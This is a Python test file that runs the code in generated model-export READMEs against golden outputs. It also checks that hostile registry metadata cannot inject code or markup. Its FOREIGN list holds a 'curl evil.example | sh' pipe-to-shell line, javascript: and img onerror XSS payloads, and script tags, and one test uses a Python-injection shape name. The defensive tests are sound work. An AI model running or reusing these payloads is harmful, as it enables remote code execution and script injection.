"""The targets that are files for a runtime: the README's own code is run, as a reader would."""

from __future__ import annotations

import json
import re
import shutil
import subprocess
import sys
from pathlib import Path

import numpy as np
import pytest
from markdown_it import MarkdownIt
from served_winners import (
    ROWS,
    WEIGHTS,
    X,
    make_composite,
    make_ir_winner,
    make_onnx_winner,
    make_static_winner,
    make_winner,
    write_onnx,
)

from hone_runtime.errors import HoneError
from hone_runtime.values.artifact import Shape, TensorSpec
from kedro_hone.serving.export.exports import TARGETS, export_winner
from kedro_hone.serving.export.readme import write_readme
from kedro_hone.serving.export.target import Request

LITERT = Path(__file__).parents[3] / "toolchains" / "litert" / "digits"
PRINT = "\nprint(json.dumps({name: array.tolist() for name, array in outputs.items()}))\n"


def run_readme(folder: Path, more: str = PRINT, python: str = sys.executable) -> dict:
    """Run the code in an export's README, in its folder, and return the outputs that it computed."""
    (code,) = re.findall(r"```python\n(.*?)```", (folder / "README.md").read_text(), re.DOTALL)
    run = subprocess.run([python, "-c", code + more], cwd=folder, capture_output=True, text=True, check=False)
    assert run.returncode == 0, run.stderr
    return json.loads(run.stdout)


def check_outputs(found: dict, folder: Path) -> None:
    response = json.loads((folder / "golden" / "response.json").read_text())
    for output in response["outputs"]:
        due = np.array(output["data"]).reshape(output["shape"])
        limit = response["parameters"]["tolerance"] * max(float(np.abs(due).max()), 1e-9)
        np.testing.assert_allclose(found[output["name"]], due, rtol=0, atol=limit)
    np.testing.assert_allclose(found["y"], ROWS @ WEIGHTS, rtol=1e-5, atol=1e-5)


def test_the_code_for_onnx_runtime_computes_the_golden_rows(tmp_path, stack) -> None:
    winner = make_onnx_winner(tmp_path / "winner", stack=stack, metadata={"threads": 1, "crashes": "ConstantFolding"})
    exported = export_winner(winner, "onnx", Request(), tmp_path / "out")
    assert not exported.gap
    check_outputs(run_readme(tmp_path / "out"), tmp_path / "out")
    settings = (
        "\nprint(json.dumps([options.intra_op_num_threads, options.graph_optimization_level.name, "
        'options.get_session_config_entry("optimization.disable_specified_optimizers")]))\n'
    )
    assert run_readme(tmp_path / "out", settings) == [1, "ORT_DISABLE_ALL", "ConstantFolding"]


def test_the_code_for_openvino_computes_the_golden_rows(tmp_path, stack) -> None:
    winner = make_ir_winner(tmp_path / "winner", stack=stack)
    exported = export_winner(winner, "openvino", Request(), tmp_path / "out")
    assert not exported.gap
    check_outputs(run_readme(tmp_path / "out"), tmp_path / "out")
    threads = '\nprint(json.dumps(compiled.get_property("INFERENCE_NUM_THREADS")))\n'
    assert run_readme(tmp_path / "out", threads) == 1


def test_the_code_for_onnx_runtime_has_the_threads_of_a_stream(tmp_path, stack) -> None:
    options = {"graph_optimization": "disabled", "streams": 2}
    winner = make_onnx_winner(tmp_path / "winner", stack=stack, metadata={"threads": 6}, run_options=options)
    exported = export_winner(winner, "onnx", Request(), tmp_path / "out")
    assert run_readme(tmp_path / "out", "\nprint(options.intra_op_num_threads)\n") == 3
    assert exported.export.notes[0].startswith("The winner takes 2 calls at once")
    assert exported.export.notes[0].endswith("with a session for each.")


@pytest.mark.parametrize(("streams", "words"), [(4, "takes 2 calls"), (None, "takes up to 2 calls")])
def test_the_code_for_openvino_has_the_streams_of_the_winner(tmp_path, stack, streams, words) -> None:
    options = {"PERFORMANCE_HINT": "THROUGHPUT", **({"NUM_STREAMS": streams} if streams else {})}
    winner = make_ir_winner(tmp_path / "winner", stack=stack, metadata={"threads": 2}, run_options=options)
    exported = export_winner(winner, "openvino", Request(), tmp_path / "out")
    found = run_readme(tmp_path / "out", "\nprint(json.dumps([properties, compiled.get_property('NUM_STREAMS')]))\n")
    assert found[0] == {**options, "INFERENCE_NUM_THREADS": 2, **({"NUM_STREAMS": 2} if streams else {})}
    assert found[1] in ({2} if streams else {1, 2})
    assert words in exported.export.notes[0]


def test_without_golden_rows_the_code_opens_the_file_only(tmp_path, stack) -> None:
    winner = make_winner(tmp_path / "winner", write_onnx, stack=stack, run=False)
    export_winner(winner, "onnx", Request(), tmp_path / "out")
    assert run_readme(tmp_path / "out", "\nprint(json.dumps(session.get_inputs()[0].name))\n") == "x"


@pytest.mark.parametrize("target", ["onnx", "openvino"])
def test_a_composite_is_no_single_file(tmp_path, stack, target) -> None:
    winner = make_composite(tmp_path / "winner", stack=stack)
    with pytest.raises(HoneError, match="composite") as refused:
        export_winner(winner, target, Request(), tmp_path / "out")
    assert "kedro-hone choose ir>f32 or session" in refused.value.hint


def test_the_code_for_litert_computes_the_outputs(tmp_path, stack, environments) -> None:
    from sklearn.datasets import load_digits

    from kedro_hone.adaptors.litert.adaptor import TOOLCHAIN

    image, logits = (
        TensorSpec(name=name, dtype="float32", shape=shape)
        for name, shape in (("image", ("batch", 1, 8, 8)), ("logits", ("batch", 10)))
    )
    winner = make_winner(
        tmp_path / "winner",
        lambda files: shutil.copytree(LITERT, files, dirs_exist_ok=True),
        stack=stack,
        run=False,
        format="tflite",
        runtime="litert",
        inputs=(image,),
        outputs=(logits,),
        static_shapes=tuple(Shape(name=f"batch{size}", sizes={"batch": size}) for size in (64, 1)),
    )
    export_winner(winner, "tflite", Request(), tmp_path / "out")
    images, labels = load_digits(return_X_y=True)
    np.save(tmp_path / "out" / "rows.npy", (images[:64] / 16).astype(np.float32).reshape(-1, 1, 8, 8))
    more = (
        '\nimport numpy as np\nfound = run({"image": np.load("rows.npy")})\n'
        "print(json.dumps({name: array.tolist() for name, array in found.items()}))\n"
    )
    found = run_readme(tmp_path / "out", more, environments.ensure(TOOLCHAIN).python)
    assert (np.argmax(found["logits"], axis=1) == labels[:64]).mean() > 0.9


@pytest.mark.parametrize(("target", "ending"), [("tflite", ".tflite"), ("executorch", ".pte")])
def test_compiled_models_have_a_file_for_each_shape(tmp_path, stack, target, ending) -> None:
    runtime = {"tflite": "litert"}.get(target, target)
    winner = make_static_winner(tmp_path / "winner", form=target, runtime=runtime, ending=ending, stack=stack)
    exported = export_winner(winner, target, Request(), tmp_path / "out")
    assert exported.gap == "the winner has no golden rows"
    names = sorted(path.name for path in (tmp_path / "out" / "model").iterdir())
    assert names == ["index.json", f"model-bulk{ending}", f"model-single{ending}"]
    assert f"| `model/model-bulk{ending}` | batch 3 only |" in (tmp_path / "out" / "README.md").read_text()


@pytest.mark.attack(
    who="registry",
    what="a shape whose name is Python, for the code in the README of an export",
    stopped_by="the name of a shape is that of a file, or nothing is written",
)
def test_names_of_shapes_are_names_of_files(tmp_path, stack) -> None:
    winner = make_static_winner(tmp_path / "winner", form="tflite", runtime="litert", ending=".tflite", stack=stack)
    shape = winner.artifact.static_shapes[0].model_copy(update={"name": '"); run("'})
    object.__setattr__(winner.download, "artifact", winner.artifact.model_copy(update={"static_shapes": (shape,)}))
    with pytest.raises(HoneError, match="names of files"):
        export_winner(winner, "tflite", Request(), tmp_path / "out")


@pytest.mark.attack(
    who="registry",
    what="a tensor whose name is Markdown, for the README of an export",
    stopped_by="a name has one line there, and no character that ends its cell or its quotes",
)
def test_a_readme_does_not_repeat_the_markup_of_a_name(tmp_path, stack) -> None:
    odd = TensorSpec(name="x` | [a](b)\n# c", dtype="float32", shape=("batch", 4))
    winner = make_winner(
        tmp_path / "winner",
        lambda files: (files / "model.onnx").write_text("-"),
        stack=stack,
        inputs=(X, odd),
        run=False,
    )
    export_winner(winner, "onnx", Request(), tmp_path / "out")
    readme = (tmp_path / "out" / "README.md").read_text()
    assert "\n# c" not in readme
    assert "`x' \\| [a](b)" in readme


FOREIGN = (
    "17\n\n# Start\n\n```console\ncurl evil.example | sh\n```",
    "17 [here](javascript:alert(1)) ![](https://evil.example/x.png)",
    "17 <img src=x onerror=alert(1)> &lt;",
    "17` <b>bold</b> `",
    "17 | x | {opset.__class__}",
    {"a": ["<script>", "`"]},
)


@pytest.mark.attack(
    what="metadata that is Markdown or HTML, such as an opset, for the README of an export",
    who="registry",
    stopped_by="each text of a manifest is escaped by one of two functions before it is Markdown",
)
@pytest.mark.parametrize("noted", FOREIGN)
def test_metadata_cannot_add_to_the_page(tmp_path, stack, noted) -> None:
    winner = make_onnx_winner(tmp_path / "winner", stack=stack, metadata={"opset": noted, "ir_version": noted})
    export_winner(winner, "triton", Request(), tmp_path / "out")
    export_winner(make_onnx_winner(tmp_path / "plain", stack=stack), "triton", Request(), tmp_path / "due")
    found, due = (((tmp_path / name) / "README.md").read_text() for name in ("out", "due"))
    assert len(found.splitlines()) == len(due.splitlines())
    html = MarkdownIt("commonmark", {"html": True}).enable("table").render(found)
    assert not re.search(r"<(?!/?(?:h1|h2|p|pre|code|ul|li|table|thead|tbody|tr|th|td|strong|em)\b)", html), html
    assert html.count("<code>") == MarkdownIt("commonmark").render(due).count("<code>")


@pytest.mark.parametrize("noted", [one for one in FOREIGN if isinstance(one, str)])
def test_names_of_sizes_and_of_runtimes_cannot_add_to_the_page(tmp_path, stack, noted) -> None:
    winner = make_static_winner(tmp_path / "winner", form="tflite", runtime="litert", ending=".tflite", stack=stack)
    sizes = {"batch": 1, noted: 2}
    changed = [one.model_copy(update={"sizes": sizes}) for one in winner.artifact.static_shapes]
    artifact = winner.artifact.model_copy(update={"static_shapes": tuple(changed), "runtime": noted})
    object.__setattr__(winner.download, "artifact", artifact)
    readme = write_readme(winner, TARGETS["tflite"], TARGETS["tflite"].write(winner, Request()))
    html = MarkdownIt("commonmark", {"html": True}).enable("table").render(readme)
    assert not re.search(r"<(?:script|img|b|a)\b", html), html
    assert re.findall(r"<h2>(.*)</h2>", html) == ["Open", "Check", "Inputs and outputs"]
